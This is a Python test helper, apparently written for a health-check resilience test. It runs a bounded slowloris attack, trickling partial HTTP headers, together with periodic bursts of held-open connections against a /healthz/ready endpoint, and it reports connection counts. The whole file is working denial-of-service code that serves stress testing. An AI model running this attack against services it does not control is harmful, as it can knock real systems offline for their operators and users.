#!/usr/bin/env python3
"""A bounded slow-client and burst attack on an HTTP endpoint, for test_health_under_attack.sh.

Keeps up to --slow connections open that send an incomplete request head and then trickle one header
byte every half second (slowloris); each one the server closes is opened again (at most --rate new
connections per second). Every --burst-every seconds it also opens --burst connections at once that send
a complete GET and then neither read nor close. Everything stops after --duration seconds or
--max-connections connections in all, whichever comes first; prints what it did on one line.
"""
import argparse
import errno
import selectors
import socket
import time

PARTIAL = b"GET /healthz/ready HTTP/1.1\r\nHost: attacker\r\n"
COMPLETE = b"GET /healthz/ready HTTP/1.1\r\nHost: attacker\r\n\r\n"


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--slow", type=int, default=500)
    p.add_argument("--rate", type=int, default=500, help="new slow connections per second at most")
    p.add_argument("--burst", type=int, default=1000)
    p.add_argument("--burst-every", type=float, default=5.0)
    p.add_argument("--duration", type=float, default=20.0)
    p.add_argument("--max-connections", type=int, default=40000)
    a = p.parse_args()

    sel = selectors.DefaultSelector()
    conns = {}  # socket -> dict(kind, state, opened, next_trickle)
    counts = dict(opened=0, closed_by_server=0, connect_failed=0, connect_timeout=0, answered=0)
    start = time.monotonic()
    end = start + a.duration
    next_burst = start + 1.0
    tokens = float(a.rate)
    last = start

    def open_one(kind, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((a.host, a.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            counts["connect_failed"] += 1
            return
        counts["opened"] += 1
        conns[s] = dict(kind=kind, state="connecting", opened=now, next_trickle=now + 0.5)
        sel.register(s, selectors.EVENT_WRITE)

    def drop(s):
        sel.unregister(s)
        s.close()
        del conns[s]

    while True:
        now = time.monotonic()
        if now >= end:
            break
        tokens = min(float(a.rate), tokens + (now - last) * a.rate)
        last = now
        slow = sum(1 for c in conns.values() if c["kind"] == "slow")
        while slow < a.slow and tokens >= 1 and counts["opened"] < a.max_connections:
            open_one("slow", now)
            tokens -= 1
            slow += 1
        if now >= next_burst:
            next_burst = now + a.burst_every
            for _ in range(a.burst):
                if counts["opened"] >= a.max_connections:
                    break
                open_one("burst", now)
        for key, events in sel.select(timeout=0.05):
            s = key.fileobj
            c = conns[s]
            if c["state"] == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    counts["connect_failed"] += 1
                    drop(s)
                    continue
                try:
                    s.send(PARTIAL if c["kind"] == "slow" else COMPLETE)
                except OSError:
                    counts["closed_by_server"] += 1
                    drop(s)
                    continue
                c["state"] = "holding"
                # Both watch for the server's answer or close; a burst one never reads its answer.
                sel.modify(s, selectors.EVENT_READ)
            else:
                try:
                    data = s.recv(4096) if c["kind"] == "slow" else s.recv(1, socket.MSG_PEEK)
                except OSError:
                    data = b""
                if c["kind"] == "burst" and data:
                    # An answer arrived: leave it unread (and the connection open) until the hold ends.
                    counts["answered"] += 1
                    sel.unregister(s)
                    c["state"] = "answered"
                    continue
                if not data:
                    counts["closed_by_server"] += 1
                    drop(s)
        now = time.monotonic()
        for s, c in list(conns.items()):
            if c["state"] == "connecting" and now - c["opened"] > 3.0:
                counts["connect_timeout"] += 1
                drop(s)
            elif c["kind"] == "burst" and now - c["opened"] > 3.0:
                if c["state"] == "answered":  # no longer registered
                    s.close()
                    del conns[s]
                else:
                    drop(s)
            elif c["kind"] == "slow" and c["state"] == "holding" and now >= c["next_trickle"]:
                c["next_trickle"] = now + 0.5
                try:
                    s.send(b"X")
                except OSError:
                    counts["closed_by_server"] += 1
                    drop(s)
    for s in list(conns):
        s.close()
    print(" ".join(f"{k}={v}" for k, v in counts.items()), flush=True)


if __name__ == "__main__":
    main()
